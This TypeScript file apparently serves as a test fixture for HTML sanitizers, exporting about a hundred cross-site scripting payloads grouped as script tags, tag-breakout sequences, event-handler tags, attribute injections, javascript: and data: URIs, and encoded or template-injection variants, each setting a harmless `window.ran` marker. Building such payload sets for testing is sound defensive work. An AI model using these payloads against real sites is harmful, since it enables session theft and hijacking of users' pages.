/** A hundred texts that run something where a page takes captured text for markup, script, style or address. Each that ran would leave `ran` on the window. */

const RUN = 'window.ran=1';

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<script type=module>${RUN}</script>`,
  `<script>/*\n*/${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
];
const HANDLERS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'object data=x',
  'details open',
  'marquee',
].flatMap((tag) => {
  const event = /^(img|video|audio|object)/.test(tag)
    ? 'onerror'
    : /^input/.test(tag)
      ? 'onfocus'
      : /^details/.test(tag)
        ? 'ontoggle'
        : /^marquee/.test(tag)
          ? 'onstart'
          : 'onload';
  return [
    `<${tag} ${event}=${RUN}>`,
    `<${tag}/${event}="${RUN}">`,
    `"><${tag} ${event}=${RUN}>`,
    `'><${tag} ${event}='${RUN}'>`,
  ];
});
const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  `x" style="animation-name:x" onanimationstart="${RUN}`,
  `\` onmouseover=\`${RUN}`,
  `" srcdoc="<script>parent.ran=1</script>`,
  `" formaction="javascript:${RUN}`,
  `" href="javascript:${RUN}`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
  `[a](javascript:${RUN})`,
  `![a](x" onerror="${RUN})`,
  `<a href="javascript:${RUN}">a</a>`,
  `<form action="javascript:${RUN}"><button autofocus>a</button></form>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${RUN})}">`,
];
const ODD = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<script>\u2028${RUN}</script>`,
  `<img src=x onerror\u00a0=${RUN}>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url("x" onerror=${RUN})}</style>`,
  `"-${RUN}-"`,
  `';${RUN};//`,
  `");${RUN};//`,
  `</script><svg onload=${RUN}>`,
  `__proto__`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>a</x>`,
];

export const PAYLOADS: readonly string[] = [...TAGS, ...HANDLERS, ...ATTRIBUTES, ...ODD];
